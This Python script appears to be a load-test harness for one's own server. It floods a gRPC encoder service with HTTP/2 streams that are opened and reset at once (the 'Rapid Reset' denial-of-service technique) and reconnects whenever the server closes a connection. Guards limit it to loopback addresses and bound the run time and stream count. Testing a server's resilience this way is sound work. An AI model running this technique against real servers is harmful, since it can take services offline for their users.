"""Opens HTTP/2 streams and resets them at once, as fast as one process can, from one loopback address.

    rapid_reset.py HOST PORT [--source ADDRESS] [--connections N] [--seconds N] [--shape headers|message|whole]

Bounded in time and in streams; prints one JSON object: streams sent, connections opened and refused. A connection that
the server ends is opened anew, as an attacker would.
"""

import argparse
import json
import select
import socket
import time

import http2_frames as h2

PATHS = {"Encode": "/attnd.v1.EncoderService/Encode", "EncodeStream": "/attnd.v1.EncoderService/EncodeStream"}
STREAMS_MAX = 20_000_000
CHUNK_STREAMS = 500
SECONDS_MAX = 20
RECONNECT_SECONDS = 0.01


class Attack:
    """One connection's streams, in chunks of ready bytes."""

    def __init__(self, options):
        self.options = options
        self.socket = None
        self.retry_at = 0

    def connect(self, counts, now):
        self.retry_at = now + RECONNECT_SECONDS
        try:
            self.socket = socket.create_connection(
                (self.options.host, self.options.port), 1, (self.options.source, 0) if self.options.source else None)
        except OSError:
            counts["refused"] += 1
            return
        counts["connections"] += 1
        self.socket.setblocking(False)
        self.pending = h2.PREFACE + h2.settings()
        self.stream = 1

    def chunk(self):
        path = PATHS[self.options.method]
        parts = []
        for stream in range(self.stream, self.stream + 2 * CHUNK_STREAMS, 2):
            parts.append(h2.call_headers(path, stream))
            if self.options.shape != "headers":
                parts.append(h2.message(stream, h2.END_STREAM if self.options.shape == "whole" else 0))
            parts.append(h2.reset(stream))
        self.stream += 2 * CHUNK_STREAMS
        return b"".join(parts)

    def close(self):
        if self.socket is not None:
            self.socket.close()
        self.socket = None

    def write(self, counts):
        if not self.pending:
            self.pending = self.chunk()
            counts["streams"] += CHUNK_STREAMS
        self.pending = self.pending[self.socket.send(self.pending):]

    def read(self):
        if not self.socket.recv(1 << 16):
            self.close()


def step(attacks, counts):
    """One look at all connections."""
    now = time.monotonic()
    for attack in attacks:
        if attack.socket is None and now >= attack.retry_at:
            attack.connect(counts, now)
    open_ones = {attack.socket: attack for attack in attacks if attack.socket is not None}
    if not open_ones:
        time.sleep(RECONNECT_SECONDS)
        return
    readable, writable, _ = select.select(open_ones, open_ones, [], 0.05)
    for ready, act in ((readable, lambda attack: attack.read()), (writable, lambda attack: attack.write(counts))):
        for connection in ready:
            attack = open_ones[connection]
            try:
                if attack.socket is not None:
                    act(attack)
            except BlockingIOError:
                pass
            except OSError:
                attack.close()


def run(options):
    counts = {"streams": 0, "connections": 0, "refused": 0}
    attacks = [Attack(options) for _ in range(options.connections)]
    end = time.monotonic() + min(options.seconds, SECONDS_MAX)
    while time.monotonic() < end and counts["streams"] < STREAMS_MAX:
        step(attacks, counts)
    for attack in attacks:
        attack.close()
    return counts


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("--source", help="the loopback address to come from")
    parser.add_argument("--connections", type=int, default=4)
    parser.add_argument("--seconds", type=float, default=5)
    parser.add_argument("--method", choices=sorted(PATHS), default="Encode")
    parser.add_argument("--shape", choices=["headers", "message", "whole"], default="whole",
                        help="before the reset: HEADERS alone, a message that does not end the call, or one that does")
    options = parser.parse_args()
    if not options.host.startswith("127."):
        parser.error("only a server on the loopback may be attacked")
    print(json.dumps(run(options)))


if __name__ == "__main__":
    main()
